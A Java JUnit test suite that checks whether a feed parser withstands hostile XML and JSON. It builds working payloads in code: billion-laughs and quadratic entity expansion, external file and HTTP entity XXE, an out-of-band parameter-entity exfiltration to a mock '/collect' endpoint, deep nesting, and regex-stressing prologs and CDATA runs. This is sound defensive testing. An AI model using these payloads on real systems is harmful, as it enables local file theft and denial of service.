package dev.gleaner.parse;

import static java.util.concurrent.TimeUnit.MILLISECONDS;
import static org.assertj.core.api.Assertions.assertThat;

import dev.gleaner.model.Feed;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.FutureTask;
import java.util.concurrent.TimeoutException;
import java.util.function.Consumer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import mockwebserver3.Dispatcher;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import mockwebserver3.RecordedRequest;
import mockwebserver3.junit5.StartStop;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile documents against {@link FeedParser#standard()}: each must be refused with a reason that
 * says why, or parsed harmlessly; either way within two seconds, without reading a local file or
 * reaching a server, and within a 48 MB heap when parsed in a child JVM ({@link ParseInBoundedHeap}).
 *
 * <p>Every attack is built here in code. The parser is warmed up first, so the time bound measures
 * the document and not class loading. Besides the XML classics (entity expansion, external
 * entities and DTDs, deep nesting) two groups aim at the repair path for broken feeds: long prologs
 * (regular expressions that recurse once per character overflow the stack) and unclosed CDATA
 * sections (a scan from each opening is quadratic).
 */
class XmlAttackTest {
    /** How long any of these documents may take to parse, refused or not. */
    private static final Duration QUICKLY = Duration.ofSeconds(2);
    /** How long a child JVM may take as a whole: start, warm-up, parse, exit. */
    private static final Duration CHILD_JVM_LIMIT = Duration.ofSeconds(30);
    private static final String BOUNDED_HEAP = "-Xmx48m";
    private static final String SOURCE = "https://attacker.example/feed.xml";
    /** A refusal of a document with a DTD or entities says so. */
    private static final Pattern ABOUT_DTD_OR_ENTITIES = Pattern.compile("(?i)doctype|dtd|entit");
    /** A refusal of a deeply nested document says so. */
    private static final Pattern ABOUT_NESTING = Pattern.compile("(?i)depth|deep|nest");
    /** Where the attack says nothing of its own kind, any reason will do. */
    private static final Pattern ANY_REASON = Pattern.compile("\\S");
    private static final Pattern TOOK = Pattern.compile("(?m)^took: (\\d+) ms$");

    private static final FeedParser PARSER = FeedParser.standard();

    @TempDir
    static Path dir;

    @BeforeAll
    static void warmUp() throws FeedParseException {
        Feed feed = parse(rss("", "warm-up", "<p>x</p>"));
        assertThat(feed.entries()).hasSize(1);
    }

    @Nested
    class BillionLaughs {
        /** Ten levels of ten references: 10^9 copies of "lol" (3 GB) if expanded. */
        private final String document = rss(billionLaughsDtd(), "&lol9;", "&lol9;");

        @Test
        void isRefusedOrLeftUnexpandedWithinTwoSeconds() {
            Outcome outcome = parseQuickly(document);

            assertRefusedOrParsed(outcome, ABOUT_DTD_OR_ENTITIES, feed -> assertNotExpanded(feed, document));
        }

        @Test
        void staysWithinA48MegabyteHeap() throws Exception {
            ChildRun run = parseInBoundedHeap(write("billion-laughs.xml", document));

            assertChildRefusedOrParsed(run, ABOUT_DTD_OR_ENTITIES);
        }

        private static String billionLaughsDtd() {
            StringBuilder dtd = new StringBuilder("<!DOCTYPE rss [\n  <!ENTITY lol0 \"lol\">\n");
            for (int level = 1; level <= 9; level++) {
                dtd.append("  <!ENTITY lol").append(level).append(" \"")
                        .append(("&lol" + (level - 1) + ";").repeat(10)).append("\">\n");
            }
            return dtd.append("]>").toString();
        }
    }

    @Nested
    class QuadraticBlowup {
        /** One 100 KB entity referenced 10,000 times: 1 GB of text from a 150 KB document. */
        private final String document = rss("<!DOCTYPE rss [<!ENTITY big \"" + "a".repeat(100_000) + "\">]>",
                "quadratic", "&big;".repeat(10_000));

        @Test
        void isRefusedOrLeftUnexpandedWithinTwoSeconds() {
            Outcome outcome = parseQuickly(document);

            assertRefusedOrParsed(outcome, ABOUT_DTD_OR_ENTITIES, feed -> assertNotExpanded(feed, document));
        }

        @Test
        void staysWithinA48MegabyteHeap() throws Exception {
            ChildRun run = parseInBoundedHeap(write("quadratic-blowup.xml", document));

            assertChildRefusedOrParsed(run, ABOUT_DTD_OR_ENTITIES);
        }
    }

    @Nested
    class ExternalFileEntity {
        private final String marker = "SECRET-" + UUID.randomUUID();
        private String document;

        @BeforeEach
        void writeSecret() throws IOException {
            Path secret = write("secret-" + UUID.randomUUID() + ".txt", marker + "\n");
            assertThat(secret.toUri().toString()).startsWith("file:///");
            document = rss("<!DOCTYPE rss [<!ENTITY secret SYSTEM \"" + secret.toUri() + "\">]>", "&secret;",
                    "before &secret; after");
        }

        @Test
        void neverPutsTheFileInTheFeedNorInTheError() {
            Outcome outcome = parseQuickly(document);

            assertRefusedOrParsed(outcome, ABOUT_DTD_OR_ENTITIES, feed -> assertThat(feed.toString())
                    .as("everything the parser returned").doesNotContain(marker));
            if (outcome instanceof Refused refused) {
                assertThat(refused.failure().getMessage()).doesNotContain(marker);
                assertThat(causes(refused.failure())).doesNotContain(marker);
            }
        }

        @Test
        void neverPrintsTheFileFromABoundedHeap() throws Exception {
            ChildRun run = parseInBoundedHeap(write("file-entity.xml", document), marker);

            assertChildRefusedOrParsed(run, ABOUT_DTD_OR_ENTITIES);
            assertThat(run.stdout()).doesNotContain(marker).doesNotContain("leaked:");
            assertThat(run.stderr()).doesNotContain(marker);
        }
    }

    @Nested
    class ExternalDtdOverHttp {
        @StartStop
        private final MockWebServer server = new MockWebServer();
        private String document;

        @BeforeEach
        void serveTheDtd() {
            serveDtds(server, "<!ENTITY injected \"INJECTED\">");
            document = rss("<!DOCTYPE rss SYSTEM \"" + server.url("/evil.dtd") + "\">", "external DTD", "<p>x</p>");
        }

        @Test
        void neverFetchesTheDtd() throws Exception {
            Outcome outcome = parseQuickly(document);

            assertRefusedOrParsed(outcome, ABOUT_DTD_OR_ENTITIES, feed -> assertThat(feed.entries()).hasSize(1));
            assertNoRequestReached(server);
        }

        @Test
        void neverFetchesTheDtdFromABoundedHeap() throws Exception {
            ChildRun run = parseInBoundedHeap(write("external-dtd.xml", document));

            assertChildRefusedOrParsed(run, ABOUT_DTD_OR_ENTITIES);
            assertNoRequestReached(server);
        }
    }

    @Nested
    class ExternalParameterEntityOverHttp {
        private final String marker = "SECRET-" + UUID.randomUUID();
        @StartStop
        private final MockWebServer server = new MockWebServer();
        private String document;

        /**
         * The out-of-band exfiltration: a parameter entity loads a DTD from the server, which
         * declares another that sends a local file's contents back to the server in a URL.
         */
        @BeforeEach
        void serveTheExfiltratingDtd() throws IOException {
            Path secret = write("secret-" + UUID.randomUUID() + ".txt", marker);
            serveDtds(server, "<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '" + server.url("/collect")
                    + "?d=%secret;'>\">\n%wrap;\n");
            document = rss("""
                    <!DOCTYPE rss [
                      <!ENTITY % secret SYSTEM "SECRET">
                      <!ENTITY % remote SYSTEM "REMOTE">
                      %remote;
                      %send;
                    ]>""".replace("SECRET", secret.toUri().toString())
                    .replace("REMOTE", server.url("/exfiltrate.dtd").toString()), "parameter entity", "<p>x</p>");
        }

        @Test
        void neverFetchesTheEntityNorSendsTheFile() throws Exception {
            Outcome outcome = parseQuickly(document);

            assertRefusedOrParsed(outcome, ABOUT_DTD_OR_ENTITIES,
                    feed -> assertThat(feed.toString()).doesNotContain(marker));
            if (outcome instanceof Refused refused) {
                assertThat(causes(refused.failure())).doesNotContain(marker);
            }
            assertNoRequestReached(server);
        }

        @Test
        void neverFetchesTheEntityFromABoundedHeap() throws Exception {
            ChildRun run = parseInBoundedHeap(write("parameter-entity.xml", document), marker);

            assertChildRefusedOrParsed(run, ABOUT_DTD_OR_ENTITIES);
            assertThat(run.stdout()).doesNotContain(marker).doesNotContain("leaked:");
            assertNoRequestReached(server);
        }
    }

    @Nested
    class ExternalGeneralEntityOverHttp {
        @StartStop
        private final MockWebServer server = new MockWebServer();
        private String document;

        @BeforeEach
        void serveTheEntity() {
            serveDtds(server, "INJECTED");
            document = rss("<!DOCTYPE rss [<!ENTITY remote SYSTEM \"" + server.url("/entity.txt") + "\">]>", "&remote;",
                    "<p>x</p>");
        }

        @Test
        void neverFetchesTheEntity() throws Exception {
            Outcome outcome = parseQuickly(document);

            assertRefusedOrParsed(outcome, ABOUT_DTD_OR_ENTITIES,
                    feed -> assertThat(feed.toString()).doesNotContain("INJECTED"));
            assertNoRequestReached(server);
        }
    }

    @Nested
    class DeepNesting {
        private static final int DEPTH = 100_000;
        /** An item holding 100,000 nested elements of an unknown kind (what ROME keeps as foreign markup). */
        private final String document = rss("", "deep", "<p>x</p>")
                .replace("</item>", "<deep>".repeat(DEPTH) + "</deep>".repeat(DEPTH) + "</item>");

        @Test
        void isRefusedOrParsedWithinTwoSeconds() {
            Outcome outcome = parseQuickly(document);

            assertRefusedOrParsed(outcome, ABOUT_NESTING, feed -> assertThat(feed.entries()).singleElement()
                    .satisfies(entry -> assertThat(entry.title()).isEqualTo("deep")));
        }

        @Test
        void staysWithinA48MegabyteHeap() throws Exception {
            ChildRun run = parseInBoundedHeap(write("deep-nesting.xml", document));

            assertChildRefusedOrParsed(run, ABOUT_NESTING);
        }

        @Test
        void aJsonFeedNested100000DeepIsRefusedWithinTwoSeconds() {
            String json = """
                    {"version": "https://jsonfeed.org/version/1.1", "title": "deep",
                     "items": [{"id": "1", "title": "deep", "_deep": %s}]}
                    """.formatted("[".repeat(DEPTH) + "]".repeat(DEPTH));

            Outcome outcome = parseQuickly(json);

            assertRefusedOrParsed(outcome, ABOUT_NESTING, feed -> assertThat(feed.entries()).hasSize(1));
        }
    }

    /**
     * Long runs before the root that a backtracking regular expression would walk one recursion per
     * character or per comment: the first two are well-formed feeds; the third needs repair.
     */
    @Nested
    class LongPrologs {
        static Stream<Arguments> prologs() {
            return Stream.of(
                    Arguments.of("10,000 blank lines after the XML declaration",
                            rss("\n".repeat(10_000), "blank lines", "<p>x</p>")),
                    Arguments.of("10,000 comments before the root",
                            rss("<!-- -->".repeat(10_000), "comments", "<p>x</p>")),
                    Arguments.of("a 100 KB DOCTYPE in a document that needs repair",
                            rss("<!DOCTYPE rss PUBLIC \"-//Attacker//" + "A".repeat(100_000)
                                    + "//EN\" \"http://127.0.0.1:9/rss.dtd\">", "Tom & Jerry", "<p>x</p>")));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("prologs")
        void isRefusedOrParsedWithinTwoSeconds(String name, String document) {
            Outcome outcome = parseQuickly(document);

            assertRefusedOrParsed(outcome, ANY_REASON, feed -> assertThat(feed.entries()).hasSize(1));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("prologs")
        void staysWithinA48MegabyteHeapAndItsStack(String name, String document) throws Exception {
            ChildRun run = parseInBoundedHeap(write("long-prolog-" + UUID.randomUUID() + ".xml", document));

            assertChildRefusedOrParsed(run, ANY_REASON);
        }
    }

    /** Many CDATA sections opened and never closed: a lazy {@code .*?} from each scans to the end. */
    @Nested
    class UnclosedCdataSections {
        /** 30,000 openings: 270 KB. */
        private final String document = rss("", "cdata", "<![CDATA[".repeat(30_000));

        @Test
        void isRefusedOrParsedWithinTwoSeconds() {
            Outcome outcome = parseQuickly(document);

            assertRefusedOrParsed(outcome, ANY_REASON, feed -> assertThat(feed.entries()).hasSize(1));
        }

        @Test
        void staysWithinA48MegabyteHeap() throws Exception {
            ChildRun run = parseInBoundedHeap(write("unclosed-cdata.xml", document));

            assertChildRefusedOrParsed(run, ANY_REASON);
        }
    }

    // ---------------------------------------------------------------------------------------------
    // Documents

    /** An RSS 2.0 document with one item, with {@code prolog} (a DOCTYPE, or empty) before the root. */
    static String rss(String prolog, String itemTitle, String description) {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                %s
                <rss version="2.0">
                  <channel>
                    <title>attack</title>
                    <link>https://attacker.example/</link>
                    <item>
                      <title>%s</title>
                      <link>https://attacker.example/1</link>
                      <description>%s</description>
                    </item>
                  </channel>
                </rss>
                """.formatted(prolog, itemTitle, description);
    }

    private static Path write(String name, String text) throws IOException {
        return Files.writeString(dir.resolve(name), text, StandardCharsets.UTF_8);
    }

    // ---------------------------------------------------------------------------------------------
    // Parsing in this JVM, against the clock

    /** What the parser did with a document. */
    private sealed interface Outcome permits Parsed, Refused {
    }

    private record Parsed(Feed feed) implements Outcome {
    }

    private record Refused(FeedParseException failure) implements Outcome {
    }

    private static Feed parse(String text) throws FeedParseException {
        return PARSER.parse(new FeedDocument(SOURCE, text.getBytes(StandardCharsets.UTF_8), Optional.empty()));
    }

    /**
     * Parses on a daemon thread and fails the test when that takes longer than {@link #QUICKLY} (a
     * runaway parse is left behind on its thread rather than holding the test) or throws anything
     * but {@link FeedParseException}.
     */
    private static Outcome parseQuickly(String text) {
        FutureTask<Outcome> task = new FutureTask<>(() -> {
            try {
                return new Parsed(parse(text));
            } catch (FeedParseException e) {
                return new Refused(e);
            }
        });
        Thread worker = new Thread(task, "hostile-parse");
        worker.setDaemon(true);
        worker.start();
        try {
            return task.get(QUICKLY.toMillis(), MILLISECONDS);
        } catch (TimeoutException e) {
            worker.interrupt();
            throw new AssertionError("the parser was still busy after " + QUICKLY.toMillis() + " ms", e);
        } catch (ExecutionException e) {
            throw new AssertionError("the parser threw " + e.getCause() + " instead of refusing the document",
                    e.getCause());
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError("interrupted", e);
        }
    }

    /** Refused with a message naming the source and a reason matching {@code reason}, or parsed and harmless. */
    private static void assertRefusedOrParsed(Outcome outcome, Pattern reason, Consumer<Feed> harmless) {
        if (outcome instanceof Refused refused) {
            FeedParseException failure = refused.failure();
            assertThat(failure.getMessage()).startsWith("could not parse feed " + SOURCE + ": ").hasSizeLessThan(1_000);
            assertThat(failure.reason()).as("the reason for refusing").containsPattern(reason);
        } else {
            harmless.accept(((Parsed) outcome).feed());
        }
    }

    /** The feed holds no more text than the document did: no entity was expanded. */
    private static void assertNotExpanded(Feed feed, String document) {
        assertThat(feed.toString().length()).as("size of everything the parser returned")
                .isLessThan(document.length() + 2_000);
    }

    /** The messages of a throwable and all its causes. */
    private static String causes(Throwable failure) {
        StringBuilder messages = new StringBuilder();
        for (Throwable cause = failure; cause != null; cause = cause.getCause()) {
            messages.append(cause).append('\n');
        }
        return messages.toString();
    }

    // ---------------------------------------------------------------------------------------------
    // Parsing in a child JVM with a small heap

    /** What a child JVM running {@link ParseInBoundedHeap} did. */
    private record ChildRun(int exitCode, String stdout, String stderr) {
        String outcome() {
            return stdout.lines().findFirst().orElse("");
        }

        Optional<Duration> took() {
            Matcher took = TOOK.matcher(stdout);
            return took.find() ? Optional.of(Duration.ofMillis(Long.parseLong(took.group(1)))) : Optional.empty();
        }

        @Override
        public String toString() {
            return "exit status " + exitCode + "\n--- stdout\n" + stdout + "--- stderr\n" + stderr;
        }
    }

    private static ChildRun parseInBoundedHeap(Path document, String... forbidden)
            throws IOException, InterruptedException {
        Path out = Files.createTempFile(dir, "child", ".out");
        Path err = Files.createTempFile(dir, "child", ".err");
        List<String> command = new ArrayList<>(List.of(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                BOUNDED_HEAP,
                // also exit with 3 on an OutOfMemoryError that the parser might catch and wrap
                "-XX:+ExitOnOutOfMemoryError",
                "-cp", System.getProperty("java.class.path"),
                ParseInBoundedHeap.class.getName(),
                document.toString()));
        command.addAll(List.of(forbidden));
        Process process = new ProcessBuilder(command).redirectOutput(out.toFile()).redirectError(err.toFile()).start();
        boolean finished = process.waitFor(CHILD_JVM_LIMIT.toMillis(), MILLISECONDS);
        if (!finished) {
            process.destroyForcibly().waitFor();
        }
        ChildRun run = new ChildRun(process.exitValue(), Files.readString(out), Files.readString(err));
        assertThat(finished).as("the child JVM finished within %s s\n%s", CHILD_JVM_LIMIT.toSeconds(), run).isTrue();
        return run;
    }

    /** The child ran without exhausting its heap or stack, refused or parsed, and did so quickly. */
    private static void assertChildRefusedOrParsed(ChildRun run, Pattern reason) {
        assertThat(run.exitCode).as("exit status (%d: out of memory in %s, %d: stack overflow)\n%s",
                ParseInBoundedHeap.OUT_OF_MEMORY, BOUNDED_HEAP, ParseInBoundedHeap.STACK_OVERFLOW, run).isZero();
        if (run.outcome().startsWith("refused: ")) {
            assertThat(run.outcome().substring("refused: ".length())).as("the reason for refusing\n%s", run)
                    .containsPattern(reason);
        } else {
            assertThat(run.outcome()).as("%s", run).matches("parsed: \\d+ entries");
        }
        assertThat(run.took()).as("%s", run).hasValueSatisfying(took -> assertThat(took).isLessThan(QUICKLY));
    }

    // ---------------------------------------------------------------------------------------------
    // A server that must never be asked

    /** Answers every request with {@code dtd}, so that a parser that did fetch would not wait. */
    private static void serveDtds(MockWebServer server, String dtd) {
        server.setDispatcher(new Dispatcher() {
            @Override
            public MockResponse dispatch(RecordedRequest request) {
                return new MockResponse.Builder().setHeader("Content-Type", "application/xml-dtd").body(dtd).build();
            }
        });
    }

    /**
     * No request reached the server; and the server was there to be reached, as a direct fetch
     * afterwards shows.
     */
    private static void assertNoRequestReached(MockWebServer server) throws IOException, InterruptedException {
        assertThat(server.getRequestCount()).as("requests that reached the loopback server").isZero();
        HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(2)).build();
        HttpResponse<String> response = client.send(HttpRequest.newBuilder(URI.create(server.url("/probe").toString()))
                .timeout(Duration.ofSeconds(2)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(server.getRequestCount()).as("requests after a direct fetch").isEqualTo(1);
    }
}
